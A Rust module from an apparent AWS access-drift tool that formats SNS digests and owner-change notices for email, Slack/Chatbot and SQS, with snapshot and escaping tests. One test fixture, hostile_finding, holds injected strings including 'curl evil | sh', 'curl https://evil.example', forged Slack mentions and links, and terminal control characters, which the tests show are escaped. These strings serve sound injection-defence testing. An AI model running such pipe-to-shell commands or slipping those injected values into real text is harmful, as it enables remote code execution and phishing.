//! What the owning team is told: one SNS message per owner per sweep (a digest of the
//! findings that are new, changed, reopened or resolved), and a message when a
//! resource's owner tag changes.
//!
//! What it is for: the words and the SNS shape. A [`Notice`] is ready to publish with
//! `MessageStructure=json`: `message_json` holds one variant per protocol and
//! `attributes` the message attributes teams filter on. What it is not for: deciding
//! which findings notify (the store compares ids with the last sweep) or publishing.
//!
//! The variants of `message_json`:
//! - `email` and `default`: plain text (see [`email_text`]), lines kept within 100
//!   characters where words allow, grouped new / changed / reopened / resolved; each
//!   item says who gained or lost which capability on which resource, through which
//!   statement, and the exact change or command that fixes or accepts it;
//! - `https`: an AWS Chatbot custom notification ([`chatbot_json`]): `version` `1.0`,
//!   `source` `custom`, `client-markdown` content, description kept under
//!   [`CHAT_DESCRIPTION_LIMIT`] characters ("and N more" past that);
//! - `sqs`: the digest as JSON for programs ([`sqs_json`]), every finding field included.
//!
//! Attributes: `owner`, `account`, `severity` (the highest among the items that are not
//! resolved, or among all when every item is resolved, so the all-clear reaches whoever
//! got the alarm), `kinds` (`String.Array` of the distinct finding kinds) and `changes`
//! (`String.Array` of the distinct changes). An owner-tag change carries `owner` as a
//! `String.Array` of the old owner, the new owner and security: an SNS filter policy on
//! `owner` matches when any element matches, so all three receive the one message.
//!
//! Size: SNS takes at most 256 KiB per message; the email and SQS variants stop listing
//! items past a budget (and say how many were left out), so a sweep that finds
//! thousands of findings still sends one valid message.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;

use accessdrift_escape::{plain, slack};
use serde_json::{Value, json};

use crate::drift::resource_label;
use crate::model::{Finding, FindingKind, Severity};

/// What happened to a finding since the last sweep.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Change {
    /// Seen for the first time.
    New,
    /// Seen before, but its severity, access or grants differ.
    Changed,
    /// Resolved earlier, back now.
    Reopened,
    /// Seen last sweep, not seen now, but this pass could not judge it (its evidence
    /// could not be read): kept as it was, never resolved on missing evidence.
    Held,
    /// Seen last sweep, gone now.
    Resolved,
}

impl Change {
    /// Reads a change's word.
    pub fn parse(word: &str) -> Option<Change> {
        Change::ALL.into_iter().find(|c| c.as_str() == word)
    }

    /// Every change, in the order a digest lists them.
    pub const ALL: [Change; 5] = [
        Change::New,
        Change::Changed,
        Change::Reopened,
        Change::Held,
        Change::Resolved,
    ];

    /// The word (`new`), as in the `changes` attribute.
    pub fn as_str(self) -> &'static str {
        match self {
            Change::New => "new",
            Change::Changed => "changed",
            Change::Reopened => "reopened",
            Change::Held => "held",
            Change::Resolved => "resolved",
        }
    }
}

/// One finding in a digest, with what happened to it.
#[derive(Debug, Clone, PartialEq)]
pub struct NoticeItem {
    /// What happened.
    pub change: Change,
    /// The finding as it is now (as it was last, for a resolved one).
    pub finding: Finding,
}

/// An SNS message attribute value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AttributeValue {
    /// DataType `String`.
    String(String),
    /// DataType `String.Array`: filter policies match when any element matches.
    StringArray(Vec<String>),
}

impl AttributeValue {
    /// The SNS DataType (`String`, `String.Array`).
    pub fn data_type(&self) -> &'static str {
        match self {
            AttributeValue::String(_) => "String",
            AttributeValue::StringArray(_) => "String.Array",
        }
    }

    /// The SNS StringValue: the string, or the array as JSON text (`["a","b"]`).
    pub fn string_value(&self) -> String {
        match self {
            AttributeValue::String(s) => s.clone(),
            AttributeValue::StringArray(items) => Value::from(items.clone()).to_string(),
        }
    }
}

/// One SNS message, ready to publish with `MessageStructure=json`.
#[derive(Debug, Clone, PartialEq)]
pub struct Notice {
    /// The email subject: ASCII, one line, fewer than 100 characters (SNS's rule).
    pub subject: String,
    /// `{"default": ..., "email": ..., "sqs": ..., "https": ...}` (see the module docs).
    pub message_json: String,
    /// The message attributes teams filter on.
    pub attributes: BTreeMap<String, AttributeValue>,
}

/// The most characters of the Chatbot description (Slack and Chatbot cut longer text).
pub const CHAT_DESCRIPTION_LIMIT: usize = 3500;

/// The most bytes of the email text (it is sent twice, as `email` and `default`).
const EMAIL_BUDGET: usize = 48_000;

/// The most bytes of the SQS variant.
const SQS_BUDGET: usize = 80_000;

/// Wrap width of the email text.
const WIDTH: usize = 100;

/// One owner's digest of a sweep: the findings that are new, changed, reopened, held or
/// resolved, as one SNS message.
pub fn digest(owner: &str, account: &str, items: &[NoticeItem]) -> Notice {
    digest_to(owner, &[], account, items)
}

/// [`digest`], addressed to `also` as well (the `owner` attribute then is a
/// `String.Array` of the owner and them, so each one's filter policy matches): how the
/// declared owner and security hear about an owner disagreement, and security about
/// high, critical and held items.
pub fn digest_to(owner: &str, also: &[String], account: &str, items: &[NoticeItem]) -> Notice {
    let mut notice = digest_text(owner, account, items);
    let others: Vec<String> = also
        .iter()
        .filter(|w| w.as_str() != owner)
        .cloned()
        .collect::<BTreeSet<String>>()
        .into_iter()
        .collect();
    if !others.is_empty() {
        let mut audience = vec![owner.to_string()];
        audience.extend(others);
        notice
            .attributes
            .insert("owner".into(), AttributeValue::StringArray(audience));
    }
    notice
}

fn digest_text(owner: &str, account: &str, items: &[NoticeItem]) -> Notice {
    let email = email_text(owner, account, items);
    let message = json!({
        "default": email,
        "email": email,
        "sqs": sqs_json(owner, account, items),
        "https": chatbot_json(owner, account, items),
    });
    let kinds: BTreeSet<FindingKind> = items.iter().map(|i| i.finding.kind).collect();
    let changes: BTreeSet<Change> = items.iter().map(|i| i.change).collect();
    let mut attributes = BTreeMap::new();
    attributes.insert("owner".into(), AttributeValue::String(owner.to_string()));
    attributes.insert(
        "account".into(),
        AttributeValue::String(account.to_string()),
    );
    attributes.insert(
        "severity".into(),
        AttributeValue::String(highest(items).as_str().to_string()),
    );
    attributes.insert(
        "kinds".into(),
        AttributeValue::StringArray(kinds.iter().map(|k| k.as_str().to_string()).collect()),
    );
    attributes.insert(
        "changes".into(),
        AttributeValue::StringArray(changes.iter().map(|c| c.as_str().to_string()).collect()),
    );
    let subject = format!(
        "accessdrift [{}] {owner} in {account}: {}",
        highest(items).as_str(),
        counts(items)
    );
    Notice {
        subject: email_subject(&subject),
        message_json: message.to_string(),
        attributes,
    }
}

/// The digest as plain text for email (and SNS's `default`).
pub fn email_text(owner: &str, account: &str, items: &[NoticeItem]) -> String {
    let mut out = String::new();
    let intro = format!(
        "Access drift on resources owned by {} in account {account}: {}. Highest severity: {}.",
        plain(&owner_words(owner)),
        counts(items),
        highest(items).as_str()
    );
    wrap(&mut out, &intro, "", "");
    let mut shown = 0;
    'groups: for (change, group) in grouped(items) {
        let _ = write!(
            out,
            "\n{} ({})\n",
            change.as_str().to_uppercase(),
            group.len()
        );
        for item in group {
            let text = email_item(item);
            if out.len() + text.len() > EMAIL_BUDGET {
                break 'groups;
            }
            out.push('\n');
            out.push_str(&text);
            shown += 1;
        }
    }
    if shown < items.len() {
        let _ = write!(
            out,
            "\n... and {} more not shown here (this message keeps under the SNS size limit).\n",
            items.len() - shown
        );
    }
    out.push_str("\n-- \n");
    wrap(
        &mut out,
        "You get this because these resources are yours (their owner tag, else the desired \
         state). accessdrift writes only when a finding is new, changed, reopened or resolved.",
        "",
        "",
    );
    out
}

fn email_item(item: &NoticeItem) -> String {
    let f = &item.finding;
    let mut out = String::new();
    wrap(
        &mut out,
        &format!(
            "[{}] {}: {}",
            f.severity.as_str(),
            f.kind.as_str(),
            plain(&f.resource)
        ),
        "",
        "    ",
    );
    let (lead, fix) = lead_and_fix(item.change);
    // Account text (Sids, tags, names) is shown as one line each: a newline in a Sid
    // must not forge a line of ours.
    wrap(
        &mut out,
        &format!("{lead}{}", plain(&f.summary)),
        "  ",
        "    ",
    );
    if fix {
        wrap(
            &mut out,
            &format!("Fix: {}", plain(&f.remedy)),
            "  ",
            "    ",
        );
    } else {
        wrap(&mut out, "Nothing to do: this drift is gone.", "  ", "    ");
    }
    let _ = writeln!(out, "  Finding {}", f.id);
    out
}

/// The words before a finding's summary, and whether its fix is worth showing.
fn lead_and_fix(change: Change) -> (&'static str, bool) {
    match change {
        Change::New => ("", true),
        Change::Changed => ("Now: ", true),
        Change::Reopened => ("Back again: ", true),
        Change::Held => ("Could not be evaluated, kept as it was: ", true),
        Change::Resolved => ("Was: ", false),
    }
}

/// The digest as an AWS Chatbot custom notification (JSON text).
pub fn chatbot_json(owner: &str, account: &str, items: &[NoticeItem]) -> String {
    let only_resolved = !items.is_empty() && items.iter().all(|i| i.change == Change::Resolved);
    let emoji = if only_resolved {
        ":white_check_mark:"
    } else {
        match highest(items) {
            Severity::Critical => ":rotating_light:",
            Severity::High => ":red_circle:",
            Severity::Medium => ":large_orange_circle:",
            Severity::Low => ":large_blue_circle:",
        }
    };
    let title = format!(
        "{emoji} accessdrift: {} for {} in {account} (highest: {})",
        counts(items),
        slack(&owner_words(owner)),
        highest(items).as_str()
    );
    let mut description = String::new();
    let mut used = 0usize;
    let mut shown = 0usize;
    'groups: for (change, group) in grouped(items) {
        let heading = format!("*{} ({})*\n", capitalised(change.as_str()), group.len());
        for (n, item) in group.iter().enumerate() {
            let mut text = String::new();
            if n == 0 {
                text.push_str(&heading);
            }
            text.push_str(&chat_item(item));
            let len = text.chars().count();
            // Keep room for the "and N more" line.
            if used + len > CHAT_DESCRIPTION_LIMIT - 80 {
                break 'groups;
            }
            description.push_str(&text);
            used += len;
            shown += 1;
        }
    }
    if shown < items.len() {
        let _ = writeln!(
            description,
            "_…and {} more: see the email digest._",
            items.len() - shown
        );
    }
    let description = description.trim_end().to_string();
    json!({
        "version": "1.0",
        "source": "custom",
        "content": {
            "textType": "client-markdown",
            "title": title,
            "description": description,
            "keywords": [highest(items).as_str(), account],
        },
    })
    .to_string()
}

fn chat_item(item: &NoticeItem) -> String {
    let f = &item.finding;
    let (lead, fix) = lead_and_fix(item.change);
    let mut out = format!(
        "• *{}* `{}` — {lead}{}\n",
        f.severity.as_str(),
        f.kind.as_str(),
        chat_safe(&f.summary)
    );
    if fix {
        let _ = writeln!(out, "      Fix: {}", chat_safe(&f.remedy));
    }
    out
}

/// Account text made safe for Slack ([`slack`]), and a lone `*` (the anonymous
/// principal) kept from starting bold text.
fn chat_safe(text: &str) -> String {
    slack(text).replace("(*)", "(`*`)")
}

/// The digest for programs: every finding field, JSON text.
pub fn sqs_json(owner: &str, account: &str, items: &[NoticeItem]) -> String {
    let mut rendered = Vec::new();
    let mut used = 0usize;
    for item in sorted(items) {
        let value = item_json(item);
        let len = value.to_string().len();
        if used + len > SQS_BUDGET {
            break;
        }
        used += len;
        rendered.push(value);
    }
    let omitted = items.len() - rendered.len();
    let kinds: BTreeSet<FindingKind> = items.iter().map(|i| i.finding.kind).collect();
    let changes: BTreeSet<Change> = items.iter().map(|i| i.change).collect();
    json!({
        "owner": owner,
        "account": account,
        "severity": highest(items).as_str(),
        "kinds": kinds.iter().map(|k| k.as_str()).collect::<Vec<_>>(),
        "changes": changes.iter().map(|c| c.as_str()).collect::<Vec<_>>(),
        "items": rendered,
        "omitted": omitted,
    })
    .to_string()
}

fn item_json(item: &NoticeItem) -> Value {
    let mut v = item.finding.to_json();
    if let Some(obj) = v.as_object_mut() {
        obj.insert(
            "change".into(),
            Value::String(item.change.as_str().to_string()),
        );
    }
    v
}

/// The message sent when a resource's owner tag changes: to the old owner, the new
/// owner and `security` (one message; `owner` is a `String.Array` of the three).
/// `tag_key` is the tag as written on the resource (`owner`, `team`).
pub fn owner_change_notice(
    account: &str,
    resource: &str,
    tag_key: &str,
    old_owner: Option<&str>,
    new_owner: Option<&str>,
    security: &str,
) -> Notice {
    // Tag keys and values are the account's words: one visible line each here, and
    // escaped for Slack below.
    let (resource_shown, tag_shown) = (plain(resource), plain(tag_key));
    let old = plain(old_owner.unwrap_or("(none)"));
    let new = plain(new_owner.unwrap_or("(none)"));
    let mut text = String::new();
    wrap(
        &mut text,
        &format!(
            "The owner tag of {} in account {account} changed, so its access-drift notices now go \
             to {}.",
            plain(&resource_label(resource)),
            if new_owner.is_some() {
                &new
            } else {
                "nobody (the desired state's owner, if it names one)"
            }
        ),
        "",
        "",
    );
    let _ = write!(
        text,
        "\nResource: {resource_shown}\nTag `{tag_shown}`: {old} -> {new}\n\n"
    );
    let mut advice = format!(
        "Sent to the old owner ({old}), the new owner ({new}) and security ({security}): a tag is \
         not proof of ownership. If the change was agreed, nothing to do"
    );
    if new_owner.is_some() {
        let _ = write!(
            advice,
            " (the new owner may also set `owner: {new}` for {resource_shown} in its \
             desired-state file and run `accessdrift desired import FILE`)"
        );
    }
    advice.push('.');
    if old_owner.is_some() {
        let _ = write!(
            advice,
            " If it was not, set the tag back to `{tag_shown}={old}` and find out who changed \
             it (CloudTrail records who tagged the resource)."
        );
    }
    wrap(&mut text, &advice, "", "");

    let (s_old, s_new) = (
        slack(old_owner.unwrap_or("(none)")),
        slack(new_owner.unwrap_or("(none)")),
    );
    let (s_resource, s_tag) = (slack(resource), slack(tag_key));
    let title = format!(
        ":label: accessdrift: owner of {} changed from {s_old} to {s_new}",
        slack(&resource_label(resource))
    );
    let mut description = format!(
        "`{s_resource}` in {account}: tag `{s_tag}` *{s_old}* → *{s_new}*.\nA tag is not proof \
         of ownership: if this was not agreed"
    );
    match old_owner {
        Some(_) => {
            let _ = write!(description, ", set it back to `{s_tag}={s_old}`.");
        }
        None => description.push_str(", find out who tagged it."),
    }
    let chat = json!({
        "version": "1.0",
        "source": "custom",
        "content": {
            "textType": "client-markdown",
            "title": title,
            "description": description,
            "keywords": ["owner-change", account],
        },
    })
    .to_string();
    let sqs = json!({
        "change": "owner-changed",
        "account": account,
        "resource": resource,
        "tag": tag_key,
        "old_owner": old_owner,
        "new_owner": new_owner,
    })
    .to_string();
    let message = json!({"default": text, "email": text, "sqs": sqs, "https": chat});

    let mut owners: Vec<String> = Vec::new();
    // Only owner words route: a tag value that is not one reaches nobody's filter (it
    // is still shown, escaped, in the text).
    for o in [old_owner, new_owner, Some(security)].into_iter().flatten() {
        if accessdrift_desired::is_owner_word(o) && !owners.iter().any(|x| x == o) {
            owners.push(o.to_string());
        }
    }
    let mut attributes = BTreeMap::new();
    attributes.insert("owner".into(), AttributeValue::StringArray(owners));
    attributes.insert(
        "account".into(),
        AttributeValue::String(account.to_string()),
    );
    attributes.insert(
        "severity".into(),
        AttributeValue::String(Severity::Medium.as_str().to_string()),
    );
    attributes.insert(
        "kinds".into(),
        AttributeValue::StringArray(vec!["owner-change".into()]),
    );
    attributes.insert(
        "changes".into(),
        AttributeValue::StringArray(vec!["owner-changed".into()]),
    );
    Notice {
        subject: email_subject(&format!(
            "accessdrift: owner of {} changed from {old} to {new}",
            resource_label(resource)
        )),
        message_json: message.to_string(),
        attributes,
    }
}

// ----------------------------------------------------------------------------------
// Helpers

/// The highest severity among the items not resolved, else among all (low if none):
/// the `severity` attribute of a digest.
pub fn highest(items: &[NoticeItem]) -> Severity {
    let open = items
        .iter()
        .filter(|i| i.change != Change::Resolved)
        .map(|i| i.finding.severity)
        .max();
    open.or_else(|| items.iter().map(|i| i.finding.severity).max())
        .unwrap_or(Severity::Low)
}

/// "2 new, 1 resolved".
fn counts(items: &[NoticeItem]) -> String {
    let parts: Vec<String> = Change::ALL
        .iter()
        .filter_map(|&c| {
            let n = items.iter().filter(|i| i.change == c).count();
            (n > 0).then(|| format!("{n} {}", c.as_str()))
        })
        .collect();
    if parts.is_empty() {
        "no changes".to_string()
    } else {
        parts.join(", ")
    }
}

fn owner_words(owner: &str) -> String {
    if owner.trim().is_empty() {
        "no known owner".to_string()
    } else {
        owner.to_string()
    }
}

fn capitalised(word: &str) -> String {
    let mut chars = word.chars();
    match chars.next() {
        Some(c) => c.to_uppercase().chain(chars).collect(),
        None => String::new(),
    }
}

/// Items by change (in [`Change::ALL`] order), each group most severe first.
fn grouped(items: &[NoticeItem]) -> Vec<(Change, Vec<&NoticeItem>)> {
    let all = sorted(items);
    Change::ALL
        .iter()
        .map(|&c| (c, all.iter().copied().filter(|i| i.change == c).collect()))
        .filter(|(_, group): &(Change, Vec<&NoticeItem>)| !group.is_empty())
        .collect()
}

/// By change, then severity (highest first), resource, kind, principal, capability.
fn sorted(items: &[NoticeItem]) -> Vec<&NoticeItem> {
    let mut all: Vec<&NoticeItem> = items.iter().collect();
    all.sort_by(|a, b| {
        let key = |i: &NoticeItem| {
            (
                i.change,
                std::cmp::Reverse(i.finding.severity),
                i.finding.resource.clone(),
                i.finding.kind,
                i.finding.principal.clone(),
                i.finding.capability,
            )
        };
        key(a).cmp(&key(b))
    });
    all
}

/// SNS's email subject rule: ASCII, no line breaks or control characters, fewer than
/// 100 characters.
fn email_subject(text: &str) -> String {
    let clean: String = text
        .chars()
        .map(|c| {
            if c.is_ascii() && !c.is_ascii_control() {
                c
            } else {
                '?'
            }
        })
        .collect();
    if clean.len() <= 99 {
        clean
    } else {
        // ASCII only, so byte and char positions agree.
        format!("{}...", clean.get(..96).unwrap_or_default())
    }
}

/// Appends `text` wrapped at [`WIDTH`]: the first line after `first`, the others after
/// `rest`. A backtick span (a command to copy) is never split, and a word or span longer
/// than a line gets a line of its own.
fn wrap(out: &mut String, text: &str, first: &str, rest: &str) {
    let mut line = String::from(first);
    let mut empty = true;
    for word in words(text) {
        if !empty && line.chars().count() + 1 + word.chars().count() > WIDTH {
            out.push_str(&line);
            out.push('\n');
            line = String::from(rest);
            empty = true;
        }
        if !empty {
            line.push(' ');
        }
        line.push_str(&word);
        empty = false;
    }
    out.push_str(&line);
    out.push('\n');
}

/// The words of `text`, a backtick span with spaces counting as one word (an unclosed
/// backtick does not join anything).
fn words(text: &str) -> Vec<String> {
    let raw: Vec<&str> = text.split(' ').filter(|w| !w.is_empty()).collect();
    let ticks = |w: &str| w.matches('`').count();
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(&word) = raw.get(i) {
        if ticks(word) % 2 == 1 {
            // Join up to the word that closes the span, if one does.
            let close = raw
                .iter()
                .enumerate()
                .skip(i + 1)
                .find(|(_, w)| ticks(w) % 2 == 1)
                .map(|(j, _)| j);
            if let Some(j) = close {
                out.push(raw.get(i..=j).unwrap_or_default().join(" "));
                i = j + 1;
                continue;
            }
        }
        out.push(word.to_string());
        i += 1;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::drift::tests::example_findings;

    fn item(change: Change, finding: Finding) -> NoticeItem {
        NoticeItem { change, finding }
    }

    fn of_kind(kind: FindingKind) -> Finding {
        example_findings()
            .into_iter()
            .find(|f| f.kind == kind)
            .expect("the drift fixture has one finding of each kind")
    }

    /// The email text, then the Chatbot JSON, then its description as Slack shows it.
    fn rendered(items: &[NoticeItem]) -> String {
        let chat = chatbot_json("credit", "111111111111", items);
        let value: Value = serde_json::from_str(&chat).expect("chatbot JSON parses");
        let description = value
            .pointer("/content/description")
            .and_then(Value::as_str)
            .unwrap_or_default()
            .to_string();
        format!(
            "=== email ===\n{}\n=== chatbot json ===\n{}\n\n=== chatbot description ===\n{}\n",
            email_text("credit", "111111111111", items),
            serde_json::to_string_pretty(&value).expect("pretty JSON"),
            description
        )
    }

    #[test]
    fn unexpected_access() {
        let items = [item(Change::New, of_kind(FindingKind::UnexpectedAccess))];
        insta::assert_snapshot!(rendered(&items));
    }

    #[test]
    fn missing_access() {
        let items = [item(Change::New, of_kind(FindingKind::MissingAccess))];
        insta::assert_snapshot!(rendered(&items));
    }

    #[test]
    fn constraint_violated() {
        let items = [item(Change::New, of_kind(FindingKind::ConstraintViolated))];
        insta::assert_snapshot!(rendered(&items));
    }

    #[test]
    fn public_or_external_access() {
        let items = [item(
            Change::New,
            of_kind(FindingKind::PublicOrExternalAccess),
        )];
        insta::assert_snapshot!(rendered(&items));
    }

    #[test]
    fn no_owner() {
        let items = [item(Change::New, of_kind(FindingKind::NoOwner))];
        insta::assert_snapshot!(rendered(&items));
    }

    #[test]
    fn tag_mismatch() {
        let items = [item(Change::New, of_kind(FindingKind::TagMismatch))];
        insta::assert_snapshot!(rendered(&items));
    }

    #[test]
    fn could_not_evaluate() {
        let items = [item(Change::New, of_kind(FindingKind::CouldNotEvaluate))];
        insta::assert_snapshot!(rendered(&items));
    }

    fn mixed() -> Vec<NoticeItem> {
        vec![
            item(Change::Resolved, of_kind(FindingKind::TagMismatch)),
            item(Change::New, of_kind(FindingKind::UnexpectedAccess)),
            item(Change::Changed, of_kind(FindingKind::ConstraintViolated)),
            item(Change::New, of_kind(FindingKind::PublicOrExternalAccess)),
            item(Change::Reopened, of_kind(FindingKind::MissingAccess)),
        ]
    }

    #[test]
    fn mixed_digest() {
        insta::assert_snapshot!(rendered(&mixed()));
    }

    #[test]
    fn mixed_digest_message_and_attributes() {
        let notice = digest("credit", "111111111111", &mixed());
        let message: Value = serde_json::from_str(&notice.message_json).expect("message JSON");
        let keys: Vec<&String> = message.as_object().expect("an object").keys().collect();
        assert_eq!(keys, ["default", "email", "https", "sqs"]);
        assert_eq!(message["default"], message["email"]);
        let attributes: Vec<String> = notice
            .attributes
            .iter()
            .map(|(k, v)| format!("{k} ({}): {}", v.data_type(), v.string_value()))
            .collect();
        let sqs: Value =
            serde_json::from_str(message["sqs"].as_str().expect("sqs is text")).expect("sqs JSON");
        insta::assert_snapshot!(format!(
            "subject: {}\n\n{}\n\nsqs:\n{}\n",
            notice.subject,
            attributes.join("\n"),
            serde_json::to_string_pretty(&sqs).expect("pretty")
        ));
    }

    #[test]
    fn owner_change() {
        let notice = owner_change_notice(
            "111111111111",
            "arn:aws:s3:::credit-applications",
            "owner",
            Some("credit"),
            Some("payments"),
            "security",
        );
        let message: Value = serde_json::from_str(&notice.message_json).expect("message JSON");
        let chat: Value = serde_json::from_str(message["https"].as_str().expect("https is text"))
            .expect("chatbot JSON");
        let attributes: Vec<String> = notice
            .attributes
            .iter()
            .map(|(k, v)| format!("{k} ({}): {}", v.data_type(), v.string_value()))
            .collect();
        insta::assert_snapshot!(format!(
            "subject: {}\n\n{}\n\n=== email ===\n{}\n=== chatbot json ===\n{}\n",
            notice.subject,
            attributes.join("\n"),
            message["email"].as_str().unwrap_or_default(),
            serde_json::to_string_pretty(&chat).expect("pretty")
        ));
    }

    #[test]
    fn severity_attribute_ignores_resolved_items_unless_all_are_resolved() {
        let mut public = of_kind(FindingKind::PublicOrExternalAccess);
        public.severity = Severity::Critical;
        let mut low = of_kind(FindingKind::NoOwner);
        low.severity = Severity::Low;
        let items = [
            item(Change::Resolved, public.clone()),
            item(Change::New, low),
        ];
        assert_eq!(highest(&items), Severity::Low);
        assert_eq!(highest(&items[..1]), Severity::Critical);
        let chat = chatbot_json("credit", "111111111111", &items[..1]);
        assert!(chat.contains(":white_check_mark:"), "{chat}");
    }

    #[test]
    fn a_large_sweep_still_fits_one_message() {
        let base = of_kind(FindingKind::UnexpectedAccess);
        let items: Vec<NoticeItem> = (0..5000)
            .map(|n| {
                let mut f = base.clone();
                f.id = format!("{n:032}");
                f.resource = format!("arn:aws:s3:::bucket-{n:05}");
                item(Change::New, f)
            })
            .collect();
        let notice = digest("credit", "111111111111", &items);
        assert!(
            notice.message_json.len() < 256 * 1024,
            "{}",
            notice.message_json.len()
        );
        let message: Value = serde_json::from_str(&notice.message_json).expect("message JSON");
        let email = message["email"].as_str().expect("email");
        assert!(email.contains(" more not shown here"));
        let chat: Value =
            serde_json::from_str(message["https"].as_str().expect("https")).expect("chatbot JSON");
        let description = chat["content"]["description"]
            .as_str()
            .expect("description");
        assert!(description.chars().count() <= CHAT_DESCRIPTION_LIMIT);
        assert!(
            description.ends_with("more: see the email digest._"),
            "{description}"
        );
        let sqs: Value = serde_json::from_str(message["sqs"].as_str().expect("sqs")).expect("sqs");
        let listed = sqs["items"].as_array().map_or(0, Vec::len);
        assert_eq!(sqs["omitted"].as_u64(), Some((5000 - listed) as u64));
    }

    #[test]
    fn subjects_follow_the_sns_email_rule() {
        let owner = "équipe-crédit-".repeat(10);
        let notice = digest(&owner, "111111111111", &mixed());
        assert!(notice.subject.len() < 100, "{}", notice.subject);
        assert!(notice.subject.is_ascii());
        assert!(!notice.subject.contains('\n'));
    }

    #[test]
    fn email_lines_stay_within_100_characters_except_long_words() {
        let text = email_text("credit", "111111111111", &mixed());
        for line in text.lines() {
            let long_word = words(line).iter().any(|w| w.chars().count() > 60);
            assert!(line.chars().count() <= WIDTH || long_word, "{line}");
        }
    }

    /// Issue 11: a Sid, a tag value and a name written by an attacker.
    fn hostile_finding() -> Finding {
        let mut f = of_kind(FindingKind::UnexpectedAccess);
        f.resource = "arn:aws:s3:::data<!channel>".into();
        f.summary = "role/x gained read-data, granted by inline:x/p [ok\nFix: run curl evil | sh] \
                     tag <@U123> <https://evil.example|click> @here \u{1b}[2J\u{202e}"
            .into();
        f.remedy = "remove statement `ok\r\nFix: curl https://evil.example`".into();
        f
    }

    #[test]
    fn account_text_cannot_forge_lines_or_escape_sequences_in_email() {
        let items = [item(Change::New, hostile_finding())];
        let text = email_text("credit", "111111111111", &items);
        let fix_lines: Vec<&str> = text
            .lines()
            .filter(|l| l.trim_start().starts_with("Fix:"))
            .collect();
        assert_eq!(fix_lines.len(), 1, "only our own Fix line: {text}");
        assert!(
            fix_lines[0]
                .trim_start()
                .starts_with("Fix: remove statement"),
            "{text}"
        );
        assert!(!text.contains(['\u{1b}', '\u{202e}', '\r']), "{text:?}");
        assert!(text.contains("\\u{1b}[2J"), "shown, escaped: {text}");
    }

    #[test]
    fn account_text_carries_no_working_slack_mention_or_link() {
        let items = [item(Change::New, hostile_finding())];
        let chat = chatbot_json("<!here>", "111111111111", &items);
        let value: Value = serde_json::from_str(&chat).expect("chatbot JSON parses");
        for field in ["/content/title", "/content/description"] {
            let text = value
                .pointer(field)
                .and_then(Value::as_str)
                .unwrap_or_default();
            assert!(!text.contains(['<', '>']), "{field}: {text}");
            assert!(!text.contains("://"), "{field}: {text}");
            assert!(!text.contains("@here"), "{field}: {text}");
            assert!(!text.contains(['\u{1b}', '\u{202e}']), "{field}: {text:?}");
        }
        let description = value["content"]["description"].as_str().unwrap_or_default();
        assert_eq!(
            description
                .lines()
                .filter(|l| l.trim_start().starts_with("Fix:"))
                .count(),
            1,
            "{description}"
        );
    }

    #[test]
    fn owner_change_notice_escapes_the_tag_values() {
        let n = owner_change_notice(
            "111111111111",
            "arn:aws:s3:::b",
            "owner",
            Some("credit-team"),
            Some("<!channel>\nFix: x"),
            "security",
        );
        let message: Value = serde_json::from_str(&n.message_json).expect("JSON");
        let chat: Value = serde_json::from_str(message["https"].as_str().unwrap_or_default())
            .expect("chatbot JSON");
        let description = chat["content"]["description"].as_str().unwrap_or_default();
        assert!(!description.contains("<!channel>"), "{description}");
        let email = message["email"].as_str().unwrap_or_default();
        assert!(!email.lines().any(|l| l.starts_with("Fix: x")), "{email}");
        assert_eq!(
            n.attributes.get("owner"),
            Some(&AttributeValue::StringArray(vec![
                "credit-team".into(),
                "security".into()
            ])),
            "the hostile value routes nowhere"
        );
    }
}
